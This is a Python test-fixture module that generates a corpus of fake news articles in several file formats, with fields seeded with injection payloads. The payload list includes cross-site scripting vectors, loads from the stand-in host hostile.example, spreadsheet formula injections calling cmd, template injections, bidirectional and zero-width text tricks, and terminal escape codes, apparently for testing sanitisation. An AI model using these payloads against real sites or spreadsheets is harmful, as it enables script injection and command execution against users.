"""A corpus in which every field holds something that wants to run, break out or be misread.

Places × payloads: each article carries another payload in each of its fields, so that few articles
cover many cases. What a payload does when it runs is seen from outside: it sets the name `stolen`
in the page, or asks the host `hostile.example` for something.
"""

from __future__ import annotations

import csv
import html
import json
import random
from pathlib import Path

HOST = "hostile.example"
_AT = f"//{HOST}/"
PAYLOADS = (
    # Elements that run or load.
    "<script>stolen=1</script>",
    f"<script src={_AT}a.js></script>",
    "<img src=x onerror=stolen=1>",
    f"<img src=http:{_AT}b>",
    '"><img src=x onerror=stolen=1>',
    "'><svg onload=stolen=1>",
    "<svg><script>stolen=1</script></svg>",
    f"<iframe src=http:{_AT}c></iframe>",
    '<iframe srcdoc="<script>parent.stolen=1</script>">',
    "<body onload=stolen=1>",
    "<details open ontoggle=stolen=1>",
    "<input autofocus onfocus=stolen=1>",
    "<video><source onerror=stolen=1></video>",
    f"<link rel=stylesheet href=http:{_AT}d.css>",
    f"<style>@import url(http:{_AT}e.css)</style>",
    f"<object data=http:{_AT}f></object>",
    f"<base href=http:{_AT}>",
    f"<form action=http:{_AT}g><button autofocus>",
    f'<p style="background:url(http:{_AT}h)">',
    # Addresses.
    "javascript:stolen=1",
    '<a href="javascript:stolen=1">here</a>',
    "JaVaScRiPt:stolen=1//",
    "data:text/html,<script>stolen=1</script>",
    # The ends of what they may stand in.
    "</script><script>stolen=1</script>",
    "</style><script>stolen=1</script>",
    "</textarea><script>stolen=1</script>",
    "</title><script>stolen=1</script>",
    "--><script>stolen=1</script>",
    "]]><script>stolen=1</script>",
    '\\"};stolen=1;//',
    "';stolen=1;'",
    "\u2028stolen=1\u2029",
    # Markdown, LaTeX, templates.
    "[here](javascript:stolen=1)",
    f"![here](http:{_AT}i)",
    "`code` **bold** # head | a | b |",
    "$\\href{javascript:stolen=1}{x}$",
    "\\(\\unicode{x3c}\\) $$\\frac{1}{0}$$",
    "{{ 7 * 191 }} {% raw %}",
    "%{x} %{customdata[0]} ${stolen}",
    # Spreadsheets.
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(1;2)",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    'x;=cmd|"/C calc"!A0',
    # What eyes misread, and terminals.
    "\u202egnp.exe\u202c \u2066left",
    "Ma\u200b\u200br\u200d\u2060ta\ufeff" + "\u200b" * 40,
    "Z" + "\u0301\u0330\u0354" * 30 + "algo",
    "\u041c\u0430r\u0442\u0430 K\u03bfvel",
    "\x1b[2J\x1b[31mred\x1b]0;own\x07",
    "&lt;script&gt;stolen=1&lt;/script&gt;",
    "<ScRiPt >stolen=1</sCrIpT ",
    "<<script>>stolen=1<</script>>",
)
PLACES = (
    *("title", "byline", "outlet", "url", "day", "body", "quotation", "name", "speaker"),
    *("file name", "other field"),
)
SHIFTS = {place: 7 * number + 1 for number, place in enumerate(PLACES)}
_FORMS = ("txt", "json", "csv", "html", "jsonl")
_WORDS = """harbour bridge ferry council storm market school engine budget winter cable garden
    station letter captain border meadow signal timber window copper lantern island morning
    printer record shelter villagers fishermen painters quarrel repairs tariff licence""".split()
_VERBS = "crossed painted closed repaired counted sold guarded visited measured opened".split()


def payload_of(place: str, number: int) -> str:
    """Give what the article of this number holds in this place."""
    return PAYLOADS[(number + SHIFTS[place]) % len(PAYLOADS)]


def cases(numbers: list[int]) -> set[tuple[str, str]]:
    """Give the pairs of place and payload that these articles try."""
    return {(place, payload_of(place, number)) for number in numbers for place in PLACES}


def drawn(share: int, seed: int = 11) -> list[int]:
    """Draw the numbers of a tenth (``share=10``) of a hundred and four articles, or of all."""
    everything = range(2 * len(PAYLOADS))
    return sorted(random.Random(seed).sample(everything, len(everything) // share))


def article(number: int, *, harmless: bool = False) -> dict[str, str]:
    """Give the fields of one article; its filling is drawn, so that no two are copies."""
    drawing = random.Random(number)
    said = {place: payload_of(place, number) for place in PLACES}
    if harmless:
        said = {place: f"Plain {place} {_WORDS[number % 30]}" for place in PLACES}
    if number % 3:  # every third article has no day that can be read
        said["day"] = f"2023-03-{1 + number % 27:02} {said['day']}"
    filling = " ".join(
        f"The {' '.join(drawing.sample(_WORDS, 3))} {drawing.choice(_VERBS)} the "
        f"{' '.join(drawing.sample(_WORDS, 4))} in Marrow Bay."
        for _ in range(6)
    )
    text = (
        f"{said['name']} and Ilse Brandvold met on Monday, {1 + number % 27} March 2023.\n\n"
        f"{filling}\n\nOn the wall was written {said['body']} in red paint, and Ilse Brandvold "
        f"left for Peru on {1 + number % 27} March 2023 with {said['name']}.\n\n"
        f"“We will wait for {said['quotation']},” {said['speaker']} said. Ilse Brandvold told "
        f"reporters that the {drawing.choice(_WORDS)} would {drawing.choice(_WORDS)} soon."
    )
    return {**said, "text": text}


def write_corpus(folder: Path, numbers: list[int], *, harmless: bool = False) -> None:
    """Write the articles in five forms, with metadata.csv, lexicon.csv and judgements.csv."""
    folder.mkdir(parents=True, exist_ok=True)
    told: list[dict[str, str]] = []
    rows: list[dict[str, str]] = []
    lines: list[str] = []
    names: set[str] = set()
    for number in numbers:
        made = article(number, harmless=harmless)
        names |= {made["name"], made["speaker"]}
        form = _FORMS[number % len(_FORMS)]
        fields = {key: made[key] for key in ("title", "byline", "outlet", "url", "text")}
        fields |= {"published": made["day"], "section": made["other field"]}
        path = folder / file_name(made["file name"], number, form)
        if form == "csv":
            rows.append(fields)
            continue
        if form == "jsonl":
            lines.append(json.dumps(fields))
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if form == "json":
            path.write_text(json.dumps({**fields, made["other field"]: "x"}), "utf-8")
        elif form == "html":
            path.write_text(_page(made), "utf-8")
        else:
            path.write_text(f"{made['title']}\n\n{made['text']}\n", "utf-8")
            fields.pop("text")
            fields["path"] = path.relative_to(folder).as_posix()
            told.append(fields)
    if rows:
        _write_csv(folder / "table.csv", rows)
    (folder / "lines.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    if told:
        _write_csv(folder / "metadata.csv", told)
    entries = [{"surface": name, "label": "PERSON", "note": name} for name in sorted(names)]
    readable = [entry for entry in entries if entry["surface"].strip("\u200b\ufeff ")]
    _write_csv(folder / "lexicon.csv", readable)
    judged = [
        {"a": name, "judgement": "different", "b": "Ilse Brandvold", "who": name, "why": name}
        for name in sorted(names)
    ]
    _write_csv(folder / "judgements.csv", judged)


def file_name(payload: str, number: int, ending: str) -> str:
    """Give a payload as a path: what stands behind a slash is a file in a folder of that name."""
    parts = [part[:50] for part in payload.split("/") if part.strip(". ")]
    parts[0] = parts[0] if not parts[0].startswith(".") else f"_{parts[0]}"
    return f"{'/'.join(parts)} {number}.{ending}"


def _page(made: dict[str, str]) -> str:
    """Give an article as a page, whose writer escaped what he was told to escape."""
    said = {key: html.escape(value) for key, value in made.items()}
    paragraphs = "".join(f"<p>{part}</p>" for part in said["text"].split("\n\n"))
    head = "".join(
        f'<meta name="{name}" property="{name}" content="{said[key]}">'
        for name, key in (
            *(("og:title", "title"), ("author", "byline"), ("og:site_name", "outlet")),
            *(("og:url", "url"), ("article:published_time", "day")),
        )
    )
    return (
        f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{said['title']}"
        f"</title>{head}</head><body><article><h1>{said['title']}</h1>{paragraphs}"
        "</article></body></html>"
    )


def _write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(dict.fromkeys(key for row in rows for key in row)))
        writer.writeheader()
        writer.writerows(rows)
